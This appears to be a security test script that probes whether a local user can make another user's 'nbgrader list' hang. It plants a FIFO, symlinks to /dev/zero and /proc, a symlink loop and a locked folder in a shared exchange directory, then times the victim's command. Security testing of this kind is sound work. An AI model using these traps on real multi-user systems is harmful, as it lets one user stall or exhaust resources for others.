"""a14: a02's unguarded listing: can eve make bob's `nbgrader list` (no course id) hang or read much, with her
`outbound` entries as a FIFO, a link to /dev/zero, a link to /proc/1/task, a link loop, and an unreadable folder?"""
import os, subprocess, shutil, time
CLONE = (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))); NB = f"{CLONE}/.venv/bin/nbgrader"
base = "/tmp/attack47-user-ex14"
shutil.rmtree(base, ignore_errors=True)
os.makedirs(base); os.chown(base, 65534, 65534)
root = f"{base}/exchange"; os.makedirs(root); os.chown(root, 65534, 65534); os.chmod(root, 0o1777)
code = f'''
import os
o = os.path.join({root!r}, "evil", "outbound"); os.makedirs(o)
os.mkfifo(os.path.join(o, "fifo")); os.symlink("/dev/zero", os.path.join(o, "zero"))
os.symlink("/proc/1/task", os.path.join(o, "proc")); os.symlink("loop", os.path.join(o, "loop"))
os.mkdir(os.path.join(o, "locked"), 0); os.mkfifo(os.path.join(o, "x.ipynb"))
d = os.path.join(o, "nb"); os.mkdir(d); os.mkfifo(os.path.join(d, "a.ipynb")); os.symlink("/dev/zero", os.path.join(d, "b.ipynb"))
'''
subprocess.run(["setpriv", "--reuid", "2001", "--regid", "2001", "--clear-groups", "/usr/bin/python3", "-c", code], check=True)
w = "/home/bob47/w14"; shutil.rmtree(w, ignore_errors=True); os.makedirs(w); os.chown(w, 2002, 2002); os.chmod(w, 0o700)
env = {"PATH": f"{CLONE}/.venv/bin:/usr/bin:/bin", "HOME": w, "LANG": "C.UTF-8"}
t = time.time()
r = subprocess.run(["setpriv", "--reuid", "2002", "--regid", "2002", "--clear-groups", NB, "list", f"--Exchange.root={root}"],
                   cwd=w, env=env, capture_output=True, text=True, timeout=120)
print(f"bob's list rc={r.returncode} in {time.time()-t:.1f}s")
print((r.stdout + r.stderr)[-1500:])
shutil.rmtree(base, ignore_errors=True)
